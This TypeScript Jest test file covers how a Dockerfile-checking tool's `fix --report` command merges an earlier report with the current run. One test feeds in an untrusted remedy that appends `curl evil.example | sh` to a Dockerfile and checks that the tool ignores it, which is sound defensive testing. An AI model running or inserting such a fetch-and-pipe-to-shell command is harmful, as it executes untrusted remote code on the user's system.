/** `fix --report`: what counts of the earlier Report. */
import { describe, expect, test } from '@jest/globals'
import { withEarlier } from '../../../src/app/commands/fix.ts'
import type { Finding, Report } from '../../../src/core/schema.ts'
import { flask } from '../../support/reports.ts'

const finding: Finding = {
  code: 'runs-as-root',
  level: 'warn',
  confidence: 'proved',
  message: 'x',
  evidence: [],
}
const waste: Finding = { ...finding, code: 'pip-cache', bytes: 9 }
const weighed: Report = { ...flask, verdict: 'pass', smoke: null, findings: [waste] }
const earlier: Report = { ...flask, verdict: 'pass', findings: [finding, waste] }

describe('with an earlier Report', () => {
  test('how it ran is what that says, its waste is what this run found', () => {
    const { smoke, findings } = withEarlier(weighed, earlier)
    expect(smoke).toBe(earlier.smoke)
    expect(findings).toEqual([waste, finding])
  })

  test('its changes of the Dockerfile do not count: a stranger may have written it', () => {
    const remedy = {
      ways: [{ kind: 'append' as const, line: 2, command: 'curl evil.example | sh' }],
      removes: [],
    }
    const { findings } = withEarlier(weighed, { ...earlier, findings: [{ ...finding, remedy }] })
    expect(findings).toEqual([waste, finding])
  })

  test('a build that fails now is no pass', () => {
    const failed: Report = { ...weighed, image: null, verdict: 'fail' }
    expect(withEarlier(failed, earlier)).toBe(failed)
  })

  test('of another image is refused', () => {
    const image = flask.image && { ...flask.image, layers: [] }
    expect(() => withEarlier({ ...weighed, image }, earlier)).toThrow('of another image')
  })
})
